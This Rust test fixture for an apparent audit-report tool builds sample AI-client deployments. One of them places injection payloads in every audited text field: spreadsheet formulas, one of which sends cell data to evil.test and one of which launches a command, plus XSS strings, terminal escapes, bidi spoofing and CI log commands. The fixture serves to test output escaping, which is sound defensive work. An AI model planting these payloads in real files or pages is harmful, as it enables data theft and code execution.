//! Deployments for tests of reports: one with a story, and one whose every text attacks the reader.

use crate::catalog::Catalog;
use crate::model::*;

/// What an auditor of a middling deployment would see.
pub(crate) fn demo() -> (Assessment, Snapshot, Catalog) {
    make(&|text| text.to_owned())
}

/// Text that tries every trick of every format.
pub(crate) const ATTACKS: &[&str] = &[
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "a;=1+1; @x",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\"><svg onload=alert(3)>' onmouseover='x",
    "]]></style><style>*{display:none}</style><!--",
    "\u{1b}[2J\u{1b}[31mred\u{1b}]8;;http://evil.test\u{7}link\u{1b}]8;;\u{7}\u{9b}31m",
    "\u{202e}fdp.exe\u{2066}\u{e0041}\u{feff}",
    "line one\n::error file=x::pwned\n##[group]x\r\n| a | b |\n# h",
    "nul\0byte \u{8}\u{7f}",
    "`` ` ```code``` [click](javascript:alert(4)) ![i](http://evil.test/i.png) <http://evil.test>",
    "@everyone #1 www.evil.test https://evil.test a@evil.test &lt;b&gt; $x$ ~~s~~ **b**",
    "山田太郎 محمد می‌خواهم שלום ქართული हिन्दी",
    "{{ 7*7 }} ${7*7} %0A%25",
];

/// The same deployment with an attack in every place that the audited side can write to.
pub(crate) fn hostile() -> (Assessment, Snapshot, Catalog) {
    let long = "W".repeat(10_000);
    let next = std::cell::Cell::new(0_usize);
    let (mut assessment, snapshot, catalog) = make(&|text| {
        let at = next.get();
        next.set(at + 1);
        let attack = ATTACKS.get(at % (ATTACKS.len() + 1)).copied().unwrap_or(&long);
        format!("{attack}{text}")
    });
    for result in assessment.checklist.iter_mut().chain(&mut assessment.controls) {
        result.reason = format!("{}{}", ATTACKS[result.id.as_str().len() % 3 + 7], result.reason);
    }
    assessment.run.id = format!("{}run", ATTACKS[7]);
    assessment.run.scope = RunScope {
        root: ATTACKS[10].to_owned(),
        repositories: vec![ATTACKS[8].to_owned()],
        ..RunScope::default()
    };
    (assessment, snapshot, catalog)
}

/// `say` is applied to every text that comes from the audited side.
fn make(say: &dyn Fn(&str) -> String) -> (Assessment, Snapshot, Catalog) {
    let catalog = Catalog::builtin().expect("the catalogue of the project is valid");
    let snapshot = snapshot(say);
    let cite = |at: usize| Evidence::of(&snapshot.observations[at % snapshot.observations.len()]);
    let mut findings = Vec::new();
    let subjects = ["host", "user dev", "user ayşe", "user 山田", "repository shop", "repository ledger"];
    for (at, (check, card)) in catalog.cards().enumerate() {
        let many = 1 + at % 3;
        for of in 0..many {
            let subject = say(subjects[(at + of) % subjects.len()]);
            let evidence = cite(at + of);
            let conclusion = match (at * 7 + of * 3) % 10 {
                0..=2 => Conclusion::fail(
                    subject,
                    vec![evidence.at("/hooks/PreToolUse/0/hooks/0"), cite(at + 3)],
                    say(
                        "the hook prints {\"decision\": \"deny\"}, which the client ignores: only exit status 2 or \
                         permissionDecision stops a call",
                    ),
                )
                .fix(say("print hookSpecificOutput with permissionDecision \"deny\", or end with exit status 2")),
                3..=4 => Conclusion::undetermined(subject, say("no log record of the period could be read")),
                5 => Conclusion::not_applicable(subject, say("no repository of this kind is in scope")),
                _ => Conclusion::pass(subject, evidence.at("L12"), say("set in the managed settings that win")),
            };
            findings.push(Finding {
                fingerprint: Fingerprint::of(check, &conclusion.subject),
                check: check.clone(),
                basis: card.basis,
                severity: if at % 11 == 0 { Severity::Critical } else { card.severity },
                subject: conclusion.subject,
                verdict: conclusion.verdict,
                message: conclusion.message,
                fix: conclusion.fix,
                evidence: conclusion.evidence,
            });
        }
    }
    findings.sort_by(|a, b| (&a.check, &a.subject).cmp(&(&b.check, &b.subject)));
    let results: Vec<ControlResult> = catalog.controls().map(|control| result(control, &findings)).collect();
    let (checklist, controls) = results.into_iter().partition(|result: &ControlResult| result.item.is_some());
    let mut requirements = Vec::new();
    for framework in catalog.frameworks() {
        for (at, requirement) in framework.requirements.iter().enumerate() {
            let serving = catalog.controls().filter(|control| {
                control
                    .requirements
                    .iter()
                    .any(|edge| edge.framework == framework.id && edge.id == requirement.id)
            });
            requirements.push(RequirementResult {
                framework: framework.id.clone(),
                id: requirement.id.clone(),
                status: Status::ALL[at % 3],
                controls: serving.map(|control| control.id.clone()).collect(),
                coverage: if at % 4 == 0 { Coverage::Related } else { Coverage::Partial },
            });
        }
    }
    let gaps = snapshot.gaps.clone();
    let assessment = Assessment {
        gate: None,
        schema: SCHEMA.to_owned(),
        tool: Tool { name: "workpaper".to_owned(), version: "0.1.0".to_owned() },
        client_contract: "2.1.240".to_owned(),
        run: Run {
            id: "r-5f2d81c04a7e".to_owned(),
            as_of: snapshot.scope.as_of,
            period: snapshot.scope.period,
            scope: RunScope {
                root: snapshot.scope.root.clone(),
                repositories: snapshot.scope.repositories.clone(),
                left_out: Vec::new(),
            },
        },
        inputs: Inputs {
            snapshot: snapshot.digest(),
            catalog: catalog.digest(),
            policy: Digest::of_bytes(b"no policy file"),
        },
        checklist,
        controls,
        requirements,
        counts: Counts::of(&findings),
        findings,
        gaps,
    };
    (assessment, snapshot, catalog)
}

fn result(control: &crate::catalog::Control, findings: &[Finding]) -> ControlResult {
    let own: Vec<&Finding> =
        findings.iter().filter(|finding| control.checks.contains(&finding.check)).collect();
    let on = |basis| {
        Verdict::worst(own.iter().filter(|finding| finding.basis == basis).map(|finding| finding.verdict))
    };
    let manual = control.checks.is_empty() && control.attestation.is_some();
    let worst = Verdict::worst(own.iter().map(|finding| finding.verdict));
    let decided =
        own.iter().filter(|finding| matches!(finding.verdict, Verdict::Pass | Verdict::Fail)).count() as u64;
    ControlResult {
        id: control.id.clone(),
        item: control.item,
        text: control.text.clone(),
        result: if manual { Status::AwaitingAttestation } else { worst.into() },
        declared: on(Basis::Declared).into(),
        enforced: on(Basis::Enforced).into(),
        operated: on(Basis::Operated).into(),
        reason: match worst {
            Verdict::Fail => "The deny hook is registered, but the client ignores the value that it prints.",
            Verdict::Pass => "Every required answer passes.",
            _ if manual => "Only a named person can state this; no statement was given.",
            _ => "No record of the period could be read.",
        }
        .to_owned(),
        subjects: Subjects { tested: decided, in_scope: own.len() as u64 },
        findings: own.iter().map(|finding| finding.fingerprint.clone()).collect(),
        attestation: None,
        waiver: None,
    }
}

fn snapshot(say: &dyn Fn(&str) -> String) -> Snapshot {
    let owner = |uid| Owner { uid: Some(uid), gid: Some(uid), basis: OwnerBasis::FileSystem };
    let file = |source: &str, role: Role, text: Option<String>, uid: u32, mode: u32| {
        let bytes = text.as_ref().map_or(2_048, String::len) as u64;
        let secrets = if source.ends_with("settings.json") && uid != 0 {
            vec![SecretHit { class: "api-key".to_owned(), line: 4, fingerprint: "9f3a/51".to_owned() }]
        } else {
            Vec::new()
        };
        let seen = FileSeen {
            role,
            sha256: Some(Digest::of_bytes(text.as_deref().unwrap_or(source).as_bytes())),
            text,
            bytes,
            owner: if uid == 7 {
                Owner { uid: None, gid: None, basis: OwnerBasis::Unknown }
            } else {
                owner(uid)
            },
            mode,
            link_target: None,
            parents: Vec::new(),
            faults: Vec::new(),
            secrets,
        };
        Observation::new(say(source), None, "settings", Seen::File(Box::new(seen)))
    };
    let managed = SettingsScope::Managed { origin: ManagedOrigin::File, user: None };
    let settings = serde_json::json!({
        "cleanupPeriodDays": 365,
        "hooks": {"PreToolUse": [{"matcher": say("Read|Edit|Bash"), "hooks": [
            {"type": "command", "command": say("/opt/claude-code/hooks/block-credential-files.sh"), "timeout": 10}]}]}
    });
    let servers = serde_json::json!({"mcpServers": {
        say("tickets"): {"type": "http", "url": say("https://mcp.example.test/v1")},
        say("files"): {"command": "npx", "args": ["-y", say("@scope/files")]}}});
    let observations = vec![
        Observation::new(
            "etc/os-release",
            None,
            "host",
            Seen::Host(Host {
                os: Os::Linux,
                recognised_by: vec!["etc/os-release".to_owned()],
                hostname: Some(say("build-07.example.test")),
                users: ["dev", "ayşe", "山田", "müller"]
                    .into_iter()
                    .map(|name| UserHome {
                        name: say(name),
                        home: format!("home/{name}"),
                        uid: Some(1000),
                        config_dir: format!("home/{name}/.claude"),
                        groups: Vec::new(),
                    })
                    .collect(),
                client_versions: vec!["2.1.240".to_owned()],
                owners_preserved: true,
            }),
        ),
        file(
            "etc/claude-code/managed-settings.json",
            Role::Settings { scope: managed },
            Some(settings.to_string()),
            0,
            0o644,
        ),
        file(
            "etc/claude-code/settings.json",
            Role::Settings {
                scope: SettingsScope::UnreadByClient {
                    why: "the client reads managed-settings.json".to_owned(),
                },
            },
            Some("{}".to_owned()),
            0,
            0o644,
        ),
        file("etc/claude-code/managed-mcp.json", Role::ManagedMcp, Some(servers.to_string()), 0, 0o644),
        file(
            "home/dev/.claude/settings.json",
            Role::Settings { scope: SettingsScope::User { user: say("dev") } },
            Some("{\"permissions\": {}}".to_owned()),
            1000,
            0o600,
        ),
        file(
            "opt/claude-code/hooks/block-credential-files.sh",
            Role::Script { named_by: vec!["etc/claude-code/managed-settings.json".to_owned()] },
            Some("#!/bin/sh\nexit 0\n".to_owned()),
            7,
            0o755,
        ),
        file("etc/logrotate.d/claude-code", Role::Rotation { kind: RotationKind::Logrotate }, None, 0, 0o644),
        file(
            "repo:shop/.claude/settings.json",
            Role::Settings { scope: SettingsScope::Project { repository: say("shop") } },
            Some("{\"hooks\": {}}".to_owned()),
            1000,
            0o644,
        ),
        Observation::new(
            say("repo:shop/"),
            None,
            "repository",
            Seen::Repository(Box::new(RepositorySeen {
                name: say("shop"),
                head: Some("4be1c0d2".to_owned()),
                branch: Some(say("main")),
                commits: Some(1_204),
                shallow: false,
                hooks_path: None,
                hooks: vec![GitHookSeen {
                    event: "pre-commit".to_owned(),
                    path: say(".git/hooks/pre-commit"),
                    executable: false,
                    in_force: false,
                    why_not: Some(say("it is not executable")),
                    sha256: None,
                    text: None,
                }],
                hooks_unclear: Vec::new(),
                managers: Vec::new(),
                managers_unclear: Vec::new(),
                local_settings_tracked: false,
            })),
        ),
        Observation::new(
            "repo:shop/.github/workflows/agent.yml",
            Some("L31".to_owned()),
            "launchers",
            Seen::LaunchFlag(LaunchFlag { line: 31, flag: say("--dangerously-skip-permissions") }),
        ),
    ];
    let gaps = vec![
        Gap::new(
            say("var/log/claude-code/audit.log"),
            GapReason::NotPermitted,
            say("the operating system refused"),
        ),
        Gap::new(
            say("home/müller/.claude/settings.json"),
            GapReason::Malformed,
            say("line 14: expected a comma"),
        ),
        Gap::new("hook replay", GapReason::NotCollected, "hooks were not run: --probe was not given"),
        Gap::new(say("home/ayşe/.claude.json"), GapReason::TooLarge, say("112,400,021 bytes")),
    ];
    let scope = Scope {
        root: say("/"),
        repositories: vec![say("ledger"), say("shop")],
        logs: Vec::new(),
        period: Period::parse("2026-Q3").expect("a quarter"),
        as_of: "2026-11-22T10:00:00Z".parse().expect("a time"),
    };
    Snapshot::new(scope, observations, gaps)
}
